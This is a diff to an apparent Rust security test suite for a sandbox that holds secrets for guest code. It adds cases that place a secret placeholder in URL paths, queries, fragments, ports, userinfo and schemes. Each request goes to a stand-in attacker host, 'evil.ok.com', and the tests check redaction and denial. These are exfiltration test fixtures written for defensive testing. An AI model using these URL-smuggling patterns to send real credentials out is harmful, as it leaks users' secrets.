@@ -7,7 +7,7 @@ use phonebox_test_guests::PROBE;
 use serde_json::{Value, json};
 
 use crate::area::{Area, Case, Settings, log, revealed, with_manifest};
-use crate::canary::{TOKEN, VICTIM_TOKEN, spellings_of};
+use crate::canary::{ACCOUNT, TOKEN, VICTIM_TOKEN, spellings_of};
 
 /// Two origins, and secrets that the tests give.
 const RULES: &str = r#"
@@ -17,11 +17,15 @@ methods = ["GET", "POST"]
 [[egress]]
 origin = "https://other.ok.com"
 methods = ["GET", "POST"]
+[secrets.ACCOUNT]
+optional = true
 [secrets.QUOTED]
 optional = true
 [secrets.READABLE]
 optional = true
 "#;
+/// As `ACCOUNT` stands in a URL.
+const ACCOUNT_ENCODED: &str = "AC7f%263e%3D9%3B0a%252e%20~1d";
 const QUOTED: &str = "q\"uo\\ted/{}&=%+é-Rk4";
 
 pub(crate) async fn attack(filter: &[String]) -> Vec<crate::area::Row> {
@@ -39,16 +43,22 @@ pub(crate) async fn attack(filter: &[String]) -> Vec<crate::area::Row> {
             let body = json!({ "url": "https://evil.ok.com/s01", "body": format!("got:{{{{{name}}}}}:end") });
             format!("http {body}")
         }));
+        lines.extend(names.iter().map(|name| {
+            let url = format!("https://evil.ok.com/s01/x{{{{{name}}}}}x?k={{{{{name}}}}}");
+            format!("http {}", json!({ "url": url }))
+        }));
         let mut told = Vec::new();
         for lines in lines.chunks(5) {
             told.extend(log(&case.probe(&tenant, lines).await));
         }
-        assert_eq!(told[0], "QUOTED READABLE TOKEN", "the names that the action has");
+        assert_eq!(told[0], "ACCOUNT QUOTED READABLE TOKEN", "the names that the action has");
         let arrived = case.area.evil.met.with("/s01 ");
         assert_eq!(arrived.len(), names.len(), "received {told:#?}");
         for request in &arrived {
             assert!(request.ends_with("got::end"), "received {request}");
         }
+        let in_urls = case.area.evil.met.with("/s01/xx?k= ");
+        assert_eq!(in_urls.len(), names.len(), "received {told:#?}");
         format!("{} names found nothing", names.len())
     })
     .await;
@@ -78,6 +88,44 @@ pub(crate) async fn attack(filter: &[String]) -> Vec<crate::area::Row> {
                 "arrived {request}"
             );
             denied(&report, 1);
+            // In the path and in the query, by either import.
+            let places = ["/s02/{{ACCOUNT}}/send", "/s02/send?key={{ACCOUNT}}"];
+            for (import, path) in ["http", "wasi"]
+                .iter()
+                .flat_map(|one| places.map(|path| (one, path)))
+            {
+                let to = |host: &str| {
+                    let url = format!("https://{host}{path}");
+                    format!(
+                        "{import} {}",
+                        json!({ "url": url, "authority": host, "path": path })
+                    )
+                };
+                let before = case.area.evil.met.with("/s02/").len();
+                let report = case
+                    .probe(&tenant, &[to("evil.ok.com"), to("other.ok.com")])
+                    .await;
+                let arrived = case.area.evil.met.with("/s02/").split_off(before);
+                let [request] = &arrived[..] else {
+                    panic!("sent {import} {path}\narrived {arrived:#?}\nreceived {report:#}");
+                };
+                let sent = path.replace("{{ACCOUNT}}", ACCOUNT_ENCODED);
+                assert!(
+                    request.contains("host: evil.ok.com")
+                        && request.contains(&format!("POST {sent} HTTP/1.1\r\n")),
+                    "arrived {request}"
+                );
+                denied(&report, 1);
+                let exchange = &report["exchanges"][0];
+                assert_eq!(
+                    exchange["secrets"],
+                    json!(["ACCOUNT"]),
+                    "received {exchange:#}"
+                );
+                let recorded = path.split('?').next().unwrap_or_default();
+                let recorded = recorded.replace("{{ACCOUNT}}", "[secret:ACCOUNT]");
+                assert_eq!(exchange["path"], json!(recorded), "received {exchange:#}");
+            }
             // The same by a rule that signs for the action.
             let rules = RULES.replace(
             "origin = \"https://other.ok.com\"",
@@ -100,9 +148,19 @@ pub(crate) async fn attack(filter: &[String]) -> Vec<crate::area::Row> {
         let tenant = deploy(case, RULES).await;
         let at = "https://evil.ok.com";
         let requests = [
+            json!({ "url": format!("{at}/s04?{{{{ACCOUNT}}}}") }),
+            json!({ "url": format!("{at}/s04?{{{{ACCOUNT}}}}=x") }),
+            json!({ "url": format!("{at}/s04?a=x;{{{{ACCOUNT}}}}=x") }),
+            json!({ "url": format!("{at}/s04?a=%2{{{{ACCOUNT}}}}") }),
+            json!({ "url": format!("{at}/s04#{{{{ACCOUNT}}}}") }),
+            json!({ "url": format!("{at}/s04?key=<<a:{{{{ACCOUNT}}}}>>") }),
+            json!({ "url": format!("{at}/s04/<<a:{{{{ACCOUNT}}}}>>") }),
+            // It has a `/` in it.
             json!({ "url": format!("{at}/{{{{TOKEN}}}}/s04") }),
-            json!({ "url": format!("{at}/s04?key={{{{TOKEN}}}}") }),
-            json!({ "url": format!("{at}/s04?key=<<a:{{{{TOKEN}}}}>>") }),
+            json!({ "url": "https://evil.ok.com:{{ACCOUNT}}/s04" }),
+            json!({ "url": "https://{{ACCOUNT}}@evil.ok.com/s04" }),
+            json!({ "url": "https://x:{{ACCOUNT}}@evil.ok.com/s04" }),
+            json!({ "url": "{{ACCOUNT}}://evil.ok.com/s04" }),
             json!({ "url": format!("{at}/s04"), "headers": [["user-agent", "{{TOKEN}}"]] }),
             json!({ "url": format!("{at}/s04"), "headers": [["referer", "https://x.example/{{TOKEN}}"]] }),
             json!({ "url": format!("{at}/s04"), "headers": [["{{TOKEN}}", "x"]] }),
@@ -147,8 +205,10 @@ pub(crate) async fn attack(filter: &[String]) -> Vec<crate::area::Row> {
             "http {}",
             json!({ "url": "https://evil.ok.com/s06", "headers": [["authorization", "Bearer ((TOKEN))"]] })
         );
-        let later = case.probe(&tenant, &[again]).await;
-        denied(&later, 0);
+        let in_url = ["s06/((TOKEN))", "s06?key=((TOKEN))"]
+            .map(|path| format!("http {}", json!({ "url": format!("https://evil.ok.com/{path}") })));
+        let later = case.probe(&tenant, &[vec![again], in_url.to_vec()].concat()).await;
+        (0..3).for_each(|request| denied(&later, request));
         assert!(case.area.evil.met.with("/s06").is_empty(), "received {later:#}");
         "inert".to_owned()
     })
@@ -182,6 +242,19 @@ pub(crate) async fn attack(filter: &[String]) -> Vec<crate::area::Row> {
         let key = parts.next().unwrap().strip_prefix("key=").unwrap();
         let key = percent_encoding::percent_decode_str(key).decode_utf8().unwrap();
         assert_eq!((key.as_ref(), parts.next(), parts.next()), (QUOTED, Some("to=x"), None));
+        // In a query it is one value, and in a path, which its slash would divide, it is none.
+        let urls = ["/s07-url?key={{QUOTED}}&to=x", "/s07-url/{{QUOTED}}/x"];
+        let lines = urls.map(|path| format!("http {}", json!({ "url": format!("https://evil.ok.com{path}") })));
+        let report = case.probe(&tenant, &lines).await;
+        let arrived = case.area.evil.met.with("/s07-url");
+        let [request] = &arrived[..] else {
+            panic!("arrived {arrived:#?}\nreceived {report:#}");
+        };
+        let query = request.split([' ', '?']).nth(2).unwrap();
+        let (key, to) = query.strip_prefix("key=").unwrap().split_once('&').unwrap();
+        let key = percent_encoding::percent_decode_str(key).decode_utf8().unwrap();
+        assert_eq!((key.as_ref(), to), (QUOTED, "to=x"));
+        denied(&report, 1);
         "one value each".to_owned()
     })
     .await;
@@ -209,6 +282,18 @@ pub(crate) async fn attack(filter: &[String]) -> Vec<crate::area::Row> {
                 assert!(!told.contains(&spelling), "sent {line}\nreceived it {how}: {told}");
             }
         }
+        // The request line, in a body and as a redirect has it.
+        for path in ["/echo?a={{ACCOUNT}}", "/redirect?302&/x/y?b={{ACCOUNT}}"] {
+            let line = format!("http {}", json!({ "url": format!("https://evil.ok.com{path}"), "barred": true, "show_headers": true }));
+            let report = case.probe(&tenant, std::slice::from_ref(&line)).await;
+            let told = log(&report).concat().replace('|', "");
+            assert!(told.contains("=[secret:ACCOUNT]"), "sent {line}\nreceived {told}");
+            for (how, spelling) in spellings_of(ACCOUNT) {
+                assert!(!told.contains(&spelling), "sent {line}\nreceived it {how}: {told}");
+            }
+            let sent = path.replace("{{ACCOUNT}}", ACCOUNT_ENCODED);
+            assert_eq!(case.area.evil.met.with(&sent).len(), 1, "so the secret was sent: {sent}");
+        }
         let mut arrived = case.area.evil.met.with(&format!("Bearer {TOKEN}"));
         arrived.retain(|request| request.starts_with("POST /echo "));
         assert_eq!(arrived.len(), 2, "so the secret was sent: {arrived:#?}");
@@ -228,6 +313,7 @@ async fn deploy_as(case: &Case<'_>, suffix: &str, rules: &str) -> String {
     let tenant = case.tenant(suffix);
     let path = case.area.write(&tenant, &with_manifest(PROBE.bytes, rules));
     let secrets = json!({
+        "ACCOUNT": { "value": ACCOUNT, "origins": ["https://evil.ok.com"] },
         "TOKEN": { "value": TOKEN, "origins": ["https://evil.ok.com"] },
         "QUOTED": QUOTED,
         "READABLE": revealed("readable-value"),
